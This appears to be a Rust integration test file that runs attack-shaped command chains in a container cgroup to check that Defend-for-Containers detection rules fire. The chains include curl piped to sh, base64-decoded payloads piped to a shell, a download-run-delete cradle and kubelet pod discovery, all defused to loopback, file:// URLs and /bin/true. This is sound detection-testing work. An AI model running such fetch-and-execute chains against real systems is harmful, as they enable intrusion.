//! Issue #13 end to end: each of the five Defend-for-Containers sequence
//! rules fires live, exactly once, with all its steps as building blocks
//! (grouped by `kibana.alert.group.id`), for a real attack chain run in a
//! container cgroup (containerd CRI shape); the same steps spread past the
//! rule's maxspan give nothing.
//!
//! The chains touch only loopback (127.0.0.1:4444, where nothing listens),
//! `file://` URLs and a temporary directory under /tmp. Every chain carries
//! a marker (in its arguments or file names), so events and alerts of other
//! tests running on the machine are never counted.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use tests::cgroup::{cri_container, move_into, Cgroups};
use tests::{args_of, get, marker, read_lines, skip_or_fail, start_or_skip, wait_line, Sensor};

/// Payload Execution via Shell Pipe (`curl | sh`, by parent, 1 s).
const PIPE_TO_SHELL: &str = "a750bbcc-863f-41ef-9924-fd8224e23694";
/// Decoded Payload Piped to Interpreter (`base64 -d | sh`, by parent, 3 s).
const DECODED_TO_INTERPRETER: &str = "0fb83aa0-3d17-41e9-b09c-56397bf7a7d9";
/// Ingress Tool Transfer Followed by Execution and Deletion (10 s).
const CRADLE: &str = "1dc56174-5d02-4ca4-af92-e391f096fb21";
/// File Creation and Execution (by path then executable, 3 s).
const CREATE_THEN_EXEC: &str = "b799720e-40d0-4dd6-9c9c-4f193a6ed643";
/// Kubelet Pod Discovery (`runs=5`, 5 s).
const KUBELET_DISCOVERY: &str = "f596175f-b8fd-43ac-b9e9-ea2a96bb55d8";

/// The sensor with the built-in Defend-for-Containers pack.
fn start() -> Option<Sensor> {
    start_or_skip(&["--rules", "builtin:d4c"])
}

/// Runs `script` with bash inside a fresh CRI container cgroup: bash waits
/// until it has been moved, then runs the chain (with `$T` a fresh
/// directory under /tmp). Returns the container id and the cgroups, to
/// keep until the sensor has seen the chain.
fn run_in_container(script: &str) -> Option<(String, Cgroups, tempfile::TempDir)> {
    let Some((cg, dir, id, _uid)) = cri_container() else {
        skip_or_fail("no cgroup2 hierarchy to create a container cgroup in");
        return None;
    };
    let tmp = tempfile::Builder::new()
        .prefix("seq")
        .tempdir_in("/tmp")
        .expect("a directory under /tmp");
    let mut child = Command::new("bash")
        .args(["-c", &format!("read -r go; {script}; true")])
        .env("T", tmp.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("bash");
    move_into(&dir, child.id()).expect("moving bash into the container cgroup");
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().expect("stdin");
        writeln!(stdin, "go").expect("go");
    }
    child.wait().expect("bash ran");
    Some((id, cg, tmp))
}

/// Whether an event or alert is part of the chain marked `m`.
fn mentions(v: &Value, m: &str) -> bool {
    args_of(v).iter().any(|a| a.contains(m))
        || get(v, "file.path").as_str().is_some_and(|p| p.contains(m))
}

/// The shell alerts of `rule` whose building blocks belong to the chain
/// `m`, each with its building blocks in group order.
fn group_alerts<'a>(alerts: &'a [Value], rule: &str, m: &str) -> Vec<(&'a Value, Vec<&'a Value>)> {
    let shells = alerts.iter().filter(|a| {
        get(a, "kibana.alert.rule.rule_id") == rule
            && get(a, "kibana.alert.group.id").is_string()
            && get(a, "kibana.alert.building_block_type").is_null()
    });
    shells
        .map(|s| {
            let g = get(s, "kibana.alert.group.id");
            let mut blocks: Vec<&Value> = alerts
                .iter()
                .filter(|a| get(a, "kibana.alert.group.id") == g)
                .filter(|a| get(a, "kibana.alert.building_block_type") == "default")
                .collect();
            blocks.sort_by_key(|b| get(b, "kibana.alert.group.index").as_u64());
            (s, blocks)
        })
        .filter(|(_, blocks)| blocks.iter().any(|b| mentions(b, m)))
        .collect()
}

/// The chain's events, for a failure message.
fn chain_of(sensor: &Sensor, m: &str) -> String {
    read_lines(&sensor.events_path())
        .iter()
        .filter(|e| mentions(e, m))
        .map(|e| {
            format!(
                "{} {} {} {:?} file={} parent={} container={} user={}",
                get(e, "@timestamp"),
                get(e, "event.action"),
                get(e, "process.name"),
                args_of(e),
                get(e, "file.path"),
                get(e, "process.parent.entity_id"),
                get(e, "container.id"),
                get(e, "user.id"),
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Runs the chain (`script` with `{m}` replaced by a fresh marker) and
/// checks that `rule` fires exactly once for it, in its container, with
/// one building block per step, in order; returns the blocks.
fn fires_once(rule: &str, name: &str, script: &str) -> Vec<Value> {
    let Some(mut sensor) = start() else {
        return Vec::new();
    };
    let alerts_path = sensor.alerts_path();
    let m = marker(name);
    let Some((cid, _cgroups, _tmp)) = run_in_container(&script.replace("{m}", &m)) else {
        return Vec::new();
    };
    let found = wait_line(&alerts_path, Duration::from_secs(20), |a| {
        get(a, "kibana.alert.rule.rule_id") == rule
            && get(a, "kibana.alert.building_block_type") == "default"
            && mentions(a, &m)
    });
    // The whole sequence is written at once; let a second (wrong) one
    // reach the file too before counting.
    std::thread::sleep(Duration::from_millis(500));
    let summary = sensor.stop().expect("sensor stops");
    if found.is_err() {
        panic!(
            "no {rule} sequence alert for {m}: {summary}\n{}",
            chain_of(&sensor, &m)
        );
    }
    let alerts = read_lines(&alerts_path);
    let groups = group_alerts(&alerts, rule, &m);
    assert_eq!(groups.len(), 1, "{groups:#?}");
    let (shell, blocks) = &groups[0];
    assert_eq!(get(shell, "container.id"), cid.as_str());
    for (i, b) in blocks.iter().enumerate() {
        assert_eq!(get(b, "kibana.alert.group.index"), i as u64, "{blocks:#?}");
        assert_eq!(get(b, "container.id"), cid.as_str(), "{blocks:#?}");
    }
    assert!(
        get(&summary, "sequences.completed").as_u64() >= Some(1),
        "{summary}"
    );
    assert_eq!(get(&summary, "sequences.evicted"), 0, "{summary}");
    blocks.iter().map(|b| (*b).clone()).collect()
}

/// Runs the chain spread past the rule's maxspan and checks that `rule`
/// gives no alert for it although the sensor saw its last event
/// (`last_step` is a predicate on it).
fn gives_nothing(rule: &str, name: &str, script: &str, last_step: impl Fn(&Value) -> bool) {
    let Some(mut sensor) = start() else {
        return;
    };
    let m = marker(name);
    let Some((_cid, _cgroups, _tmp)) = run_in_container(&script.replace("{m}", &m)) else {
        return;
    };
    let seen = sensor.wait_event(Duration::from_secs(20), |e| mentions(e, &m) && last_step(e));
    // Past the reorder window, so a (wrong) sequence would be out.
    std::thread::sleep(Duration::from_millis(1500));
    let summary = sensor.stop().expect("sensor stops");
    assert!(
        seen.is_ok(),
        "the chain's last step was not seen:\n{}",
        chain_of(&sensor, &m)
    );
    let alerts = read_lines(&sensor.alerts_path());
    let groups = group_alerts(&alerts, rule, &m);
    assert!(groups.is_empty(), "{groups:#?}");
    assert!(
        get(&summary, "sequences.rejected_maxspan").as_u64() >= Some(1)
            || get(&summary, "sequences.expired").as_u64() >= Some(1),
        "{summary}"
    );
}

fn names(blocks: &[Value]) -> Vec<String> {
    blocks
        .iter()
        .map(|b| {
            format!(
                "{}:{}",
                get(b, "event.action").as_str().unwrap_or("?"),
                get(b, "process.name").as_str().unwrap_or("?")
            )
        })
        .collect()
}

// In `a | b` bash forks both sides at once and either may exec first; when
// the right side comes first these rules (step order) rightly do not fire,
// live or in Elasticsearch. The right side therefore waits for the left to
// have started (`exec`: the subshell, bash's child, becomes the shell).

#[test]
fn payload_piped_to_shell_fires_once_with_its_steps() {
    let blocks = fires_once(
        PIPE_TO_SHELL,
        "seqpipe",
        "curl -s -m 1 http://127.0.0.1:4444/{m} | (sleep 0.2; exec sh)",
    );
    if blocks.is_empty() {
        return;
    }
    let names = names(&blocks);
    assert_eq!(names.len(), 2, "{names:?}");
    assert_eq!(names[0], "exec:curl");
    assert!(
        tests::is_shell(&serde_json::json!(names[1].trim_start_matches("exec:"))),
        "{names:?}"
    );
    assert_eq!(
        get(&blocks[0], "process.parent.entity_id"),
        get(&blocks[1], "process.parent.entity_id")
    );
}

#[test]
fn the_same_steps_past_maxspan_give_nothing() {
    gives_nothing(
        PIPE_TO_SHELL,
        "seqslow",
        "curl -s -m 1 http://127.0.0.1:4444/{m}; sleep 2; sh -c 'true {m}'",
        |e| tests::is_shell(get(e, "process.name")),
    );
}

#[test]
fn decoded_payload_piped_to_interpreter_fires_once_with_its_steps() {
    // The payload decodes to `true`; `sh -s {m}` reads it from the pipe.
    let blocks = fires_once(
        DECODED_TO_INTERPRETER,
        "seqb64",
        "echo dHJ1ZQo= > $T/{m}; base64 -d $T/{m} | (sleep 0.2; exec sh -s {m})",
    );
    if blocks.is_empty() {
        return;
    }
    let names = names(&blocks);
    assert_eq!(names.len(), 2, "{names:?}");
    assert_eq!(names[0], "exec:base64");
    assert!(
        tests::is_shell(&serde_json::json!(names[1].trim_start_matches("exec:"))),
        "{names:?}"
    );
    assert_eq!(
        get(&blocks[0], "process.parent.entity_id"),
        get(&blocks[1], "process.parent.entity_id")
    );
}

#[test]
fn decoded_payload_past_maxspan_gives_nothing() {
    gives_nothing(
        DECODED_TO_INTERPRETER,
        "seqb64slow",
        "echo dHJ1ZQo= > $T/{m}; base64 -d $T/{m} > $T/{m}.out; sleep 4; sh -s {m} < $T/{m}.out",
        |e| tests::is_shell(get(e, "process.name")),
    );
}

/// The cradle: curl writes a tool to /tmp (`file://`, no network), the
/// shell runs it, and something other than `rm` deletes it. The tool is a
/// program (a copy of `true`): a script would be named after, and its
/// `process.executable` be, its interpreter.
const CRADLE_CHAIN: &str = "cp /bin/true $T/src-{m}; \
     curl -s -o $T/{m} file://$T/src-{m}; chmod +x $T/{m}; $T/{m}; {pause} unlink $T/{m}";

#[test]
fn ingress_tool_transfer_then_execution_and_deletion_fires_once_with_its_steps() {
    let blocks = fires_once(CRADLE, "seqcradle", &CRADLE_CHAIN.replace("{pause}", ""));
    if blocks.is_empty() {
        return;
    }
    let names = names(&blocks);
    assert_eq!(names.len(), 3, "{names:?}");
    assert_eq!(names[0], "creation:curl");
    assert!(names[1].starts_with("exec:seqcradle"), "{names:?}");
    assert_eq!(names[2], "deletion:unlink");
    // The three steps name the same file.
    let file = get(&blocks[0], "file.name").as_str().expect("file.name");
    assert!(file.starts_with("seqcradle"), "{file}");
    assert_eq!(get(&blocks[1], "process.name"), file);
    assert_eq!(get(&blocks[2], "file.name"), file);
}

#[test]
fn ingress_tool_transfer_past_maxspan_gives_nothing() {
    gives_nothing(
        CRADLE,
        "seqcradleslow",
        &CRADLE_CHAIN.replace("{pause}", "sleep 11;"),
        |e| get(e, "event.action") == "deletion",
    );
}

#[test]
fn file_creation_then_execution_fires_once_with_its_steps() {
    let blocks = fires_once(
        CREATE_THEN_EXEC,
        "seqmkexec",
        "cp /bin/true $T/{m}; chmod +x $T/{m}; $T/{m}",
    );
    if blocks.is_empty() {
        return;
    }
    assert_eq!(get(&blocks[0], "event.action"), "creation");
    assert_eq!(get(&blocks[1], "event.action"), "exec");
    assert_eq!(
        get(&blocks[0], "file.path"),
        get(&blocks[1], "process.executable")
    );
}

#[test]
fn file_creation_then_execution_past_maxspan_gives_nothing() {
    gives_nothing(
        CREATE_THEN_EXEC,
        "seqmkexecslow",
        "cp /bin/true $T/{m}; chmod +x $T/{m}; sleep 4; $T/{m}",
        |e| {
            get(e, "event.action") == "exec"
                && get(e, "process.name")
                    .as_str()
                    .is_some_and(|n| n.starts_with("seqmkexecslow"))
        },
    );
}

#[test]
fn kubelet_pod_discovery_fires_once_with_its_five_runs() {
    let blocks = fires_once(
        KUBELET_DISCOVERY,
        "seqkubelet",
        "for i in 1 2 3 4 5; do ls /var/lib/kubelet/pods/{m}-$i; done",
    );
    if blocks.is_empty() {
        return;
    }
    assert_eq!(names(&blocks), ["exec:ls"; 5]);
    for (i, b) in blocks.iter().enumerate() {
        let want = format!("-{}", i + 1);
        assert!(args_of(b).iter().any(|a| a.ends_with(&want)), "{b:#}");
    }
}

#[test]
fn kubelet_pod_discovery_past_maxspan_gives_nothing() {
    gives_nothing(
        KUBELET_DISCOVERY,
        "seqkubeletslow",
        "for i in 1 2 3 4 5; do ls /var/lib/kubelet/pods/{m}-$i; sleep 1.5; done",
        |e| args_of(e).iter().any(|a| a.ends_with("-5")),
    );
}

/// A `sample` rule (no Elastic Linux sample rule can fire here: they need
/// Auditbeat's `auditd.*` fields or network events), over this chain's
/// own marker: an exec and a file creation in one container, in either
/// order.
fn sample_rule(dir: &Path, m: &str) -> std::path::PathBuf {
    let path = dir.join("sample.toml");
    let text = format!(
        "[metadata]\ncreation_date = \"2026/01/01\"\nmaturity = \"production\"\n\
         updated_date = \"2026/01/01\"\n\n[rule]\nauthor = [\"t\"]\ndescription = \"d\"\n\
         name = \"Sample {m}\"\nrisk_score = 1\nrule_id = \"sample-{m}\"\nseverity = \"low\"\n\
         type = \"eql\"\nlanguage = \"eql\"\nfrom = \"now-9m\"\nquery = '''\n\
         sample by container.id\n  \
         [process where event.action == \"exec\" and process.args == \"{m}-a\"]\n  \
         [file where event.action == \"creation\" and file.name == \"{m}-b\"]\n'''\n"
    );
    std::fs::write(&path, text).expect("rule file");
    path
}

#[test]
fn a_sample_fires_live_once_per_key_and_replays_to_the_same_alert() {
    let dir = tempfile::tempdir().expect("tempdir");
    let m = marker("sample");
    let rule = sample_rule(dir.path(), &m);
    let rule_id = format!("sample-{m}");
    let Some(mut sensor) = start_or_skip(&["--rules", rule.to_str().expect("utf-8")]) else {
        return;
    };
    let alerts_path = sensor.alerts_path();
    // The file before the exec (a sample has no order), then the same
    // pair again: still one sample for the container.
    let chain = format!(
        ": > $T/{m}-b; /bin/true {m}-a; sleep 0.3; rm $T/{m}-b; : > $T/{m}-b; /bin/true {m}-a {m}-end"
    );
    let Some((cid, _cgroups, _tmp)) = run_in_container(&chain) else {
        return;
    };
    let found = wait_line(&alerts_path, Duration::from_secs(20), |a| {
        get(a, "kibana.alert.rule.rule_id") == rule_id.as_str()
    });
    // Past the reorder window: a (wrong) second sample would be out.
    let end = format!("{m}-end");
    let seen_last = sensor.wait_event(Duration::from_secs(20), |e| {
        get(e, "event.action") == "exec" && args_of(e).contains(&end)
    });
    std::thread::sleep(Duration::from_millis(1500));
    let summary = sensor.stop().expect("sensor stops");
    assert!(
        found.is_ok(),
        "no sample alert: {summary}\n{}",
        chain_of(&sensor, &m)
    );
    assert!(seen_last.is_ok());
    let alerts = read_lines(&alerts_path);
    let groups = group_alerts(&alerts, &rule_id, &m);
    assert_eq!(groups.len(), 1, "{groups:#?}");
    let (shell, blocks) = &groups[0];
    assert_eq!(get(shell, "container.id"), cid.as_str());
    // Building blocks in filter order: the exec, then the file.
    assert_eq!(blocks.len(), 2, "{blocks:#?}");
    assert_eq!(get(blocks[0], "event.action"), "exec");
    assert_eq!(get(blocks[1], "event.action"), "creation");
    assert!(
        get(blocks[0], "@timestamp").as_str() > get(blocks[1], "@timestamp").as_str(),
        "the file came first"
    );
    // The whole run's events through `sensor replay` (Elasticsearch's
    // batch semantics: one sample per key) give the same alert lines.
    let live: Vec<String> = std::fs::read_to_string(&alerts_path)
        .expect("alerts")
        .lines()
        .filter(|l| l.contains(&rule_id))
        .map(str::to_owned)
        .collect();
    let replayed = tests::replay_marked(&sensor.events_path(), &m, &rule, dir.path());
    assert_eq!(live.len(), 3, "a shell and two building blocks");
    assert_eq!(live, replayed);
}
